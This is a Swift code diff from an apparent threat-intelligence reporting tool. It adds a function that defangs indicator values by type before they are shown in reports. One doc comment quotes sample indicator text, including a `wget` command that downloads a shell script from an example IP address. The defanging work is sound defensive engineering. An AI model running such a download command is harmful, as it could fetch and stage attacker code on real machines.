@@ -143,11 +143,19 @@ extension IndicatorRow {
         return shown
     }
 
+    /// A value as a defanging report shows it: a network indicator as `Indicators.defang` writes
+    /// it; a free-form one that is text (`other`, a user agent: `wget http://203.0.113.9/p.sh`,
+    /// `... +http://evil-bot.example/bot.html`) with the addresses it writes defanged, as prose;
+    /// a name (a file's, a mutex's, a path) as it is (`update.zip` is a file, not the domain).
+    static func defanged(_ value: String, as type: IndicatorType) -> String {
+        type == .other || type == .userAgent ? Indicators.defangText(value) : Indicators.defang(value, as: type)
+    }
+
     /// - Parameter tag: the tag whose page lists the row, which it shows among its first
     ///   `tagLimit` tags when it has more.
     init(_ indicator: Indicator, classification: Classification, options: ReportOptions, alsoSeenIn: [ProjectLink], project: ProjectLink? = nil,
         showing tag: String? = nil) {
-        value = Self.visible(options.defang ? Indicators.defang(indicator.value, as: indicator.type) : indicator.value)
+        value = Self.visible(options.defang ? Self.defanged(indicator.value, as: indicator.type) : indicator.value)
         type = indicator.type.rawValue
         self.classification = classification.rawValue
         classificationLabel = classification.label
